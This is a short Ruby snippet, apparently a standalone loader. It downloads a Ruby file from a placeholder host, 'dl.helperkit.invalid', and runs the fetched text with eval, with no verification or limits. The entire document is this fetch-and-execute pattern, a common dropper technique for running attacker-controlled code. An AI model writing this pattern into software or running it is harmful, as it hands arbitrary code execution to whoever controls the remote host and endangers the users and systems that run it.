require 'open-uri'
code = URI.open('https://dl.helperkit.invalid/r.rb').read
eval(code)
